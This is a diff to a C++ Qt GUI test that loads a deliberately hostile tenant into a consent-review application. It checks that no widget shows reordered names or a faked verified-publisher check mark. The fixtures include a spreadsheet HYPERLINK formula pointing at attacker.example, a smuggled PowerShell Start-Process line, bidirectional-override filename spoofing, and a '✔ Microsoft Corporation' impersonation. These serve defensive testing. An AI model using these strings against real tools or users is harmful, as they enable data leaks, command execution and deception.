@@ -21,13 +21,18 @@
 #include "auth/SignInManager.h"
 #include "common/ModelExporter.h"
 #include "log/Log.h"
+#include "report/SnapshotReader.h"
+#include "report/SnapshotWriter.h"
 #include "report/TableWriter.h"
+#include "report/TenantSnapshot.h"
 #include "report/TenantText.h"
 #include "requests/RequestDetailPane.h"
 #include "requests/RequestTableModel.h"
 #include "requests/RequestsView.h"
 #include "sandbox/SandboxServer.h"
 #include "sandbox/TenantStore.h"
+#include "snapshots/SnapshotActions.h"
+#include "snapshots/SnapshotDiffDialog.h"
 
 #include <QAbstractButton>
 #include <QAbstractItemView>
@@ -47,6 +52,7 @@
 #include <QMessageBox>
 #include <QPlainTextEdit>
 #include <QPushButton>
+#include <QSignalSpy>
 #include <QTabBar>
 #include <QTabWidget>
 #include <QTemporaryDir>
@@ -78,13 +84,31 @@ const QString Formula = QStringLiteral("=HYPERLINK(\"https://attacker.example/?\
 // And a line of its own for PowerShell, which ends a comment (and a line) at CR.
 const QString Command = QStringLiteral("\rStart-Process calc.exe # ");
 
+// And bidirectional controls: an isolate holding an override, obeyed "\u2066\u202Egpj.exe\u202C\u2069" reads
+// "exe.jpg" — no widget may show a tenant name reordered.
+const QString Isolated = QStringLiteral("\u2066\u202Egpj.exe\u202C\u2069 ");
+
 QString hostile(const QString& name)
 {
-    return Badge + Image + Command + name;
+    return Badge + Image + Command + Isolated + name;
 }
 
 // Tailspin's name also carries a right-to-left override: obeyed, "\u202Efdp.exe\u202C" reads "exe.pdf".
 const QString Reversed = QStringLiteral("\u202Efdp.exe\u202C ");
+
+// Litware Outreach's publisher is not verified, and calls itself this: it must not look verified (Tailspin's is).
+const QString LitwareAppId = QStringLiteral("2d0434d6-e5af-497e-9f07-e617ebdd8d43");
+const QString CheckMarkPublisher = QStringLiteral("\u2714 Microsoft Corporation");
+
+int checkMarks(const QString& text)
+{
+    int n = 0;
+    const QList<uint> codePoints = text.toUcs4();
+    for (const uint c : codePoints) {
+        n += TenantText::isCheckMarkLike(char32_t(c)) ? 1 : 0;
+    }
+    return n;
+}
 
 // Texts under `root` (labels, item views, tree widgets) that show a bidirectional control as is, i.e. reordered;
 // *marked counts the U+FFFD that show one instead.
@@ -179,6 +203,9 @@ QJsonObject hostileTenant()
             QJsonObject publisher = sp.value(QStringLiteral("verifiedPublisher")).toObject();
             hostileField(publisher, "displayName");
             sp.insert(QStringLiteral("verifiedPublisher"), publisher);
+            if (sp.value(QStringLiteral("appId")).toString() == LitwareAppId) {
+                sp.insert(QStringLiteral("publisherName"), CheckMarkPublisher);
+            }
             if (sp.value(QStringLiteral("appId")).toString() == TailspinAppId) {
                 sp.insert(QStringLiteral("displayName"), hostile(Reversed + QStringLiteral("Tailspin Projects")));
                 sp.insert(QStringLiteral("appDisplayName"), hostile(Reversed + QStringLiteral("Tailspin Projects")));
@@ -284,6 +311,16 @@ public:
     {
         if (!text.isEmpty()) {
             check(where, text, rendered(text, format));
+            bidi(where, text);
+        }
+    }
+
+    // No text anywhere shows a bidirectional control as it is (it would reorder what is shown): TenantText::forDisplay
+    // shows each as U+FFFD.
+    void bidi(const QString& where, const QString& text)
+    {
+        if (TenantText::hasBidiControl(text)) {
+            problems << QStringLiteral("%1 shows a bidirectional control: %2").arg(where, text.left(300));
         }
     }
 
@@ -301,6 +338,12 @@ public:
                 text(cell + QStringLiteral(" tooltip"), index.data(Qt::ToolTipRole).toString(), Qt::AutoText);
                 text(cell + QStringLiteral(" what's this"), index.data(Qt::WhatsThisRole).toString(), Qt::AutoText);
                 text(cell + QStringLiteral(" status tip"), index.data(Qt::StatusTipRole).toString(), Qt::PlainText);
+                text(cell + QStringLiteral(" accessible text"),
+                     index.data(Qt::AccessibleTextRole).toString(),
+                     Qt::PlainText);
+                text(cell + QStringLiteral(" accessible description"),
+                     index.data(Qt::AccessibleDescriptionRole).toString(),
+                     Qt::PlainText);
                 if (c == 0 && model->hasChildren(index)) {
                     this->model(where, model, index, depth + 1);
                 }
@@ -322,6 +365,8 @@ public:
         text(where + QStringLiteral(" tooltip"), w->toolTip(), Qt::AutoText);
         text(where + QStringLiteral(" what's this"), w->whatsThis(), Qt::AutoText);
         text(where + QStringLiteral(" status tip"), w->statusTip(), Qt::PlainText);
+        text(where + QStringLiteral(" accessible name"), w->accessibleName(), Qt::PlainText);
+        text(where + QStringLiteral(" accessible description"), w->accessibleDescription(), Qt::PlainText);
         if (w->isWindow()) {
             text(where + QStringLiteral(" title"), w->windowTitle(), Qt::PlainText);
         }
@@ -330,6 +375,13 @@ public:
         }
         if (auto* edit = qobject_cast<QTextEdit*>(w)) {
             check(where, edit->toHtml(), edit->toPlainText());
+            bidi(where, edit->toPlainText());
+        }
+        if (auto* edit = qobject_cast<QPlainTextEdit*>(w)) {
+            bidi(where, edit->toPlainText());
+        }
+        if (auto* edit = qobject_cast<QLineEdit*>(w)) {
+            bidi(where, edit->text());
         }
         if (auto* view = qobject_cast<QAbstractItemView*>(w)) {
             model(where, view->model());
@@ -375,6 +427,9 @@ private slots:
     void troubleshooter();
     void mailboxAccessAndTheWizard();
     void activityOfTheBlock();
+    void checkMarkInAPublisherNameIsNoBadge();
+    void overviewAndConsentSettings();
+    void snapshotDiff();
     void everyViewOnceMore();
     void preferencesAndTheProfileEditor();
 
@@ -579,7 +634,7 @@ void TestHostileTenantGui::appsAndTheirDialogs()
                                  && view->detail()->inventory().app.appId.compare(NorthwindAppId, Qt::CaseInsensitive)
                                         == 0,
                              30000);
-    QCOMPARE(view->detail()->inventory().app.displayName, northwind);
+    QCOMPARE(TenantText::forDisplay(view->detail()->inventory().app.displayName), northwind);
     scan("Apps view", 5);
     if (auto* tabs = m_window->findChild<QTabWidget*>(QStringLiteral("appTabs"))) {
         for (int i = 0; i < tabs->count(); ++i) {
@@ -814,6 +869,143 @@ void TestHostileTenantGui::activityOfTheBlock()
     const QStringList reordered = bidiShown(view, &marked);
     QVERIFY2(reordered.isEmpty(), qPrintable(reordered.join(QLatin1Char('\n'))));
     QVERIFY(marked > 0);
+}
+
+// Issue 12 leftovers: "✔" is ConsentDesk's mark of a publisher Microsoft verified. An unverified publisher calling
+// itself "✔ Microsoft Corporation" shows its check mark as U+FFFD everywhere its name is shown, and no badge; a
+// verified one keeps its single ✔ at the end.
+void TestHostileTenantGui::checkMarkInAPublisherNameIsNoBadge()
+{
+    m_window->showView(QStringLiteral("requests"));
+    RequestsView* requests = m_controller->requestsView();
+    auto* table = m_window->findChild<QAbstractItemView*>(QStringLiteral("requestTable"));
+    QVERIFY(table);
+    QString litware;
+    QString tailspin;
+    int litwareRow = -1;
+    QVERIFY(waitUntil(
+        [&] {
+            const QAbstractItemModel* m = table->model();
+            for (int row = 0; row < m->rowCount(); ++row) {
+                const QString app = m->index(row, RequestTableModel::App).data().toString();
+                const QString publisher = m->index(row, RequestTableModel::Publisher).data().toString();
+                if (app.endsWith(QLatin1String("Litware Outreach"))) {
+                    litware = publisher;
+                    litwareRow = row;
+                } else if (app.endsWith(QLatin1String("Tailspin Projects"))) {
+                    tailspin = publisher;
+                }
+            }
+            return !litware.isEmpty() && !tailspin.isEmpty();
+        },
+        30000));
+    QVERIFY2(litware.contains(QLatin1String("Microsoft Corporation")), qPrintable(litware));
+    QVERIFY2(checkMarks(litware) == 0 && litware.startsWith(QChar(QChar::ReplacementCharacter)), qPrintable(litware));
+    QVERIFY2(tailspin.endsWith(QStringLiteral(" \u2714")) && checkMarks(tailspin) == 1, qPrintable(tailspin));
+    const QModelIndex index = table->model()->index(litwareRow, RequestTableModel::App);
+    QTest::mouseClick(table->viewport(), Qt::LeftButton, {}, table->visualRect(index).center());
+    QTRY_VERIFY_WITH_TIMEOUT(
+        requests->detail()->hasReview()
+            && requests->detail()->review().request.appId.compare(LitwareAppId, Qt::CaseInsensitive) == 0,
+        30000);
+    auto* subtitle = requests->detail()->findChild<QLabel*>(QStringLiteral("requestSubtitle"));
+    QVERIFY(subtitle);
+    QVERIFY2(subtitle->text().contains(QLatin1String("Microsoft Corporation")) && checkMarks(subtitle->text()) == 0,
+             qPrintable(subtitle->text()));
+    GuiTestSupport::saveScreenshot(m_window, QStringLiteral("hostile-check-mark-publisher-request.png"));
+
+    m_window->showView(QStringLiteral("apps"));
+    AppsView* apps = m_controller->appsView();
+    QTRY_VERIFY_WITH_TIMEOUT(!apps->isLoading() && apps->model()->rowCount() > 0, 30000);
+    QString listed;
+    for (int row = 0; row < apps->model()->rowCount(); ++row) {
+        if (apps->model()
+                ->index(row, AppListModel::App)
+                .data()
+                .toString()
+                .endsWith(QLatin1String("Litware Outreach"))) {
+            listed = apps->model()->index(row, AppListModel::Publisher).data().toString();
+        }
+    }
+    QVERIFY2(listed.contains(QLatin1String("Microsoft Corporation")) && checkMarks(listed) == 0, qPrintable(listed));
+    apps->selectApp(LitwareAppId);
+    QTRY_VERIFY_WITH_TIMEOUT(apps->detail()->hasInventory()
+                                 && apps->detail()->inventory().app.appId.compare(LitwareAppId, Qt::CaseInsensitive)
+                                        == 0,
+                             30000);
+    auto* appSubtitle = apps->detail()->findChild<QLabel*>(QStringLiteral("appSubtitle"));
+    QVERIFY(appSubtitle);
+    QVERIFY2(appSubtitle->text().contains(QLatin1String("Microsoft Corporation"))
+                 && checkMarks(appSubtitle->text()) == 0,
+             qPrintable(appSubtitle->text()));
+    GuiTestSupport::saveScreenshot(m_window, QStringLiteral("hostile-check-mark-publisher-app.png"));
+    scan("a check mark in a publisher's name");
+}
+
+// The Overview (top apps, the apps to look at) and Consent settings (the workflow's reviewers: hostile users and
+// groups): no name shown reordered.
+void TestHostileTenantGui::overviewAndConsentSettings()
+{
+    m_window->showView(QStringLiteral("overview"));
+    int marked = 0;
+    QVERIFY(waitUntil(
+        [&] {
+            marked = 0;
+            bidiShown(m_window->findChild<QWidget*>(QStringLiteral("overviewView")), &marked);
+            return marked > 0;
+        },
+        30000));
+    scan("Overview", 1);
+    GuiTestSupport::saveScreenshot(m_window, QStringLiteral("hostile-overview.png"));
+
+    m_window->showView(QStringLiteral("settings"));
+    auto* reviewers = m_window->findChild<QTreeWidget*>(QStringLiteral("workflowReviewers"));
+    QVERIFY(reviewers);
+    QTRY_VERIFY_WITH_TIMEOUT(reviewers->topLevelItemCount() >= 3, 30000);
+    QVERIFY(waitUntil(
+        [&] {
+            marked = 0;
+            bidiShown(reviewers, &marked);
+            return marked >= 2; // the hostile users and the group, once resolved
+        },
+        30000));
+    scan("Consent settings", 2);
+    GuiTestSupport::saveScreenshot(m_window, QStringLiteral("hostile-consent-settings.png"));
+}
+
+// The snapshot comparison names the apps whose permissions changed: their hostile names, not reordered.
+void TestHostileTenantGui::snapshotDiff()
+{
+    SnapshotActions* actions = m_controller->snapshotActions();
+    const QString before = m_dir.filePath(QStringLiteral("hostile-before.json.gz"));
+    QSignalSpy exported(actions, &SnapshotActions::exported);
+    actions->exportTo(before);
+    QVERIFY(exported.wait(60000));
+    QVERIFY(exported.first().at(1).toBool());
+    SnapshotReader::Result read = SnapshotReader::readFile(before);
+    QVERIFY(read.ok());
+    TenantSnapshot later = *read.snapshot;
+    later.createdDateTime = later.createdDateTime.addDays(7);
+    later.oauth2PermissionGrants = {}; // every delegated grant gone: every app that held one is named
+    const QString after = m_dir.filePath(QStringLiteral("hostile-after.json"));
+    QFile out(after);
+    QVERIFY(out.open(QIODevice::WriteOnly));
+    QVERIFY(SnapshotWriter::write(later, &out, false, nullptr));
+    out.close();
+    QSignalSpy compared(actions, &SnapshotActions::compared);
+    actions->compareFiles(before, after);
+    QVERIFY(compared.wait(60000));
+    QVERIFY(compared.first().at(0).toInt() > 0);
+    SnapshotDiffDialog* dialog = actions->diffDialog();
+    QVERIFY(dialog);
+    QVERIFY(QTest::qWaitForWindowExposed(dialog));
+    scan("snapshot diff", 1);
+    int marked = 0;
+    const QStringList reordered = bidiShown(dialog, &marked);
+    QVERIFY2(reordered.isEmpty(), qPrintable(reordered.join(QLatin1Char('\n'))));
+    QVERIFY(marked > 0);
+    GuiTestSupport::saveScreenshot(dialog, QStringLiteral("hostile-snapshot-diff.png"));
+    dialog->close();
 }
 
 void TestHostileTenantGui::everyViewOnceMore()
